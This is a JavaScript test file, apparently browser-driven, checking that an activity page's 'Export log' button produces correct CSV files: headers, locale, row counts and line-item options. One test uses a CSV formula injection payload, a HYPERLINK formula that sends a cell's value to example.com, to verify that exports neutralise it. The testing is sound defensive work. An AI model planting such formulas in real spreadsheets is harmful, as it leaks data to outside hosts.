// Export log: files that hold what the page tells.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { behaviour, daysAgo, told } from "./support.mjs";

const reader = { as: "Billing admin" };
const period = `from=${daysAgo(40)}&to=${daysAgo(1)}`;

/** Downloads by a click; the file's name and text. */
async function download(page, click) {
  const [file] = await Promise.all([page.waitForEvent("download"), click()]);
  assert.equal(await file.failure(), null);
  return { name: file.suggestedFilename(), text: await readFile(await file.path(), "utf8") };
}

/** RFC 4180. */
function parse(text) {
  const records = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    records.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === "\r\n") records.push([]);
    if (end === "") break;
  }
  if (records.at(-1).every((cell) => cell === "")) records.pop();
  return records;
}

behaviour("one click on Export log downloads all that the page tells, for Excel", reader, async ({ page, go }) => {
  await go(`/activity?${period}`);
  const count = await told(page);
  assert.ok(count > 50, "more than one page");
  const { name, text } = await download(page, () => page.locator("#export").click());
  assert.match(name, /\.csv$/);
  assert.ok(name.includes(daysAgo(40)) && name.includes(daysAgo(1)), name);
  assert.ok(text.startsWith("\ufeff"), "begins with a byte order mark");
  const [header, ...records] = parse(text.slice(1));
  assert.match(header[0], /^Date-Time \(.+\)$/);
  assert.deepEqual(header.slice(1, 4), ["Affected customer", "Action", "Partner user"]);
  assert.equal(header.length, 17);
  assert.equal(records.length, count);
  for (const record of records) assert.equal(record.length, 17);
  const first = await page.locator("#activity td.action .what bdi").first().innerText();
  assert.equal(records[0][2], first, "the newest comes first, as on the page");
});

behaviour("the header is in the reader's language", { ...reader, locale: "ja-JP" }, async ({ page, go }) => {
  await go(`/activity?${period}`);
  const { text } = await download(page, () => page.locator("#export").click());
  const [header] = parse(text.slice(1));
  const column = await page.locator("#activity thead th").nth(1).innerText();
  assert.match(header[0], /^日時/);
  assert.equal(header[1], column);
});

behaviour("a formula in a company's name is disarmed for Excel, exact for programs", reader, async ({ page, go }) => {
  await go(`/activity?from=&customer=${encodeURIComponent("=HYPERLINK")}`);
  const formula = '=HYPERLINK("http://example.com/?"&A1,"Click")';
  const excel = await download(page, () => page.locator("#export").click());
  assert.equal(parse(excel.text.slice(1))[1][1], `'${formula}`);
  await page.locator("details.options > summary").click();
  await page.locator("input[value='csv-plain']").check();
  const plain = await download(page, () => page.locator("details.options form button").click());
  assert.equal(plain.text.startsWith("\ufeff"), false);
  assert.equal(parse(plain.text)[1][1], formula);
});

behaviour("the options give a row for each line item", reader, async ({ page, go }) => {
  await go(`/activity?${period}&action=create_order`);
  const count = await told(page);
  await page.locator("details.options > summary").click();
  await page.locator("input[value='items']").check();
  const { text } = await download(page, () => page.locator("details.options form button").click());
  const [header, ...records] = parse(text.slice(1));
  assert.deepEqual(header.slice(17), ["Line", "Product", "Offer ID", "Subscription ID", "Quantity", "Term"]);
  assert.ok(records.length > count, `${records.length} lines of ${count} orders`);
  assert.equal(new Set(records.map((record) => record[12])).size, count, "of as many records as the page tells");
});
